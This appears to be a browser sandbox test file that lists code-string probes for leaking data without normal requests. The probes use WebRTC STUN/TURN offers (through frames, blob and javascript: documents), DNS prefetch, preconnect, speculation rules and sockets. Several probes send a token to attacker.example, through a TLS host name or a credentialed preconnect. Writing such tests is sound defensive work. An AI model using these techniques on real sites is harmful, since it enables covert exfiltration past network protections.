import { attacksOf } from '../attack.js';

const offer = (configuration: string, constructor = 'RTCPeerConnection') =>
  `const peer = new ${constructor}(${configuration}); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); this.kept = peer; await $.wait(300);`;

const turn = `{ iceServers: [{ urls: 'turn:' + $.address + ':' + $.udp + '?transport=udp', username: $.token, credential: 'x' }] }`;
const stun = `{ iceServers: [{ urls: 'stun:' + $.address + ':' + $.udp }] }`;

/** Sockets, name look-ups and connections that no request is needed for. */
export const connect = attacksOf('connect', {
  'WebRTC: STUN': offer(stun),
  'WebRTC: data in a TURN user name': offer(turn),
  'WebRTC: TURN over TCP': offer(`{ iceServers: [{ urls: 'turn:127.0.0.1:' + $.tcp + '?transport=tcp', username: $.token, credential: 'x' }], iceTransportPolicy: 'relay' }`),
  'WebRTC by its old name': offer(stun, 'webkitRTCPeerConnection'),
  'WebRTC of a blank child frame': `const frame = document.createElement('iframe'); document.body.append(frame); ${offer(stun, 'frame.contentWindow.RTCPeerConnection')}`,
  'WebRTC in a child document’s script': `$.put('iframe', { srcdoc: '<script>(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + $.address + ':' + $.udp + '" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); window.kept = p; })()</' + 'script>' });`,
  'WebRTC in a script address': `$.put('iframe', { src: 'javascript:(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + $.address + ':' + $.udp + '" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); window.kept = p; })()' });`,
  'WebRTC in a blob’s document': `$.put('iframe', { src: URL.createObjectURL(new Blob(['<script>(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + $.address + ':' + $.udp + '" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); window.kept = p; })()</' + 'script>'], { type: 'text/html' })) });`,
  'WebRTC through an event’s constructor': `const found = [globalThis, ...Reflect.ownKeys(globalThis).map((name) => { try { return globalThis[name]; } catch { return 0; } })].map((value) => { try { return value && (value.RTCPeerConnection ?? value.prototype?.constructor?.RTCPeerConnection ?? value.view?.RTCPeerConnection); } catch { return 0; } }).find(Boolean); ${offer(stun, 'found')}`,
  'WebRTC: candidate given by hand': `const peer = new RTCPeerConnection(); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); const other = new RTCPeerConnection(); await other.setRemoteDescription(peer.localDescription); await other.setLocalDescription(await other.createAnswer()); await peer.setRemoteDescription(other.localDescription); await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + $.address + ' ' + $.udp + ' typ host', sdpMid: '0', sdpMLineIndex: 0 }); this.kept = [peer, other]; await $.wait(300);`,
  'name looked up ahead': `$.put('link', { rel: 'dns-prefetch', href: '//' + $.dns });`,
  'name looked up ahead, allowed by meta': `$.put('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }); $.put('a', { href: 'http://' + $.dns + '/', textContent: 'x' }); $.put('link', { rel: 'dns-prefetch', href: 'http://' + $.dns + '/' });`,
  'connection made ahead': `$.put('link', { rel: 'preconnect', href: 'http://127.0.0.1:' + $.tcp });`,
  'connection made ahead, with cookies': `$.put('link', { rel: 'preconnect', href: 'http://attacker.example:' + $.tcp, crossorigin: 'use-credentials' });`,
  'connection made ahead by hovering': { code: `$.cover('<a href="http://127.0.0.1:' + $.tcp + '/" style="display:block;position:fixed;inset:0">x</a>');`, onPoke: `$.put('link', { rel: 'preconnect', href: 'http://127.0.0.1:' + $.tcp });`, poke: 'hover' },
  'name in a picture’s address': `$.put('img', { src: 'http://' + $.dns + '/' });`,
  'name in a frame’s address': `$.put('iframe', { src: 'http://' + $.dns + '/' });`,
  'name in a socket’s address': `new WebSocket('ws://' + $.dns + '/');`,
  'name in a prerendered page': `$.put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + $.dns + '/'] }] }) }); $.put('link', { rel: 'prefetch', href: 'http://' + $.dns + '/' });`,
  'TLS name': `await fetch('https://' + $.token + '.attacker.example:' + $.tcp + '/', { mode: 'no-cors' });`,
  'raw port by fetch': `await fetch('http://127.0.0.1:' + $.tcp + '/', { mode: 'no-cors' });`,
  'direct socket': `const socket = typeof TCPSocket === 'function' ? new TCPSocket('127.0.0.1', $.tcp) : new WebSocket('ws://127.0.0.1:' + $.tcp); this.kept = socket;`,
});
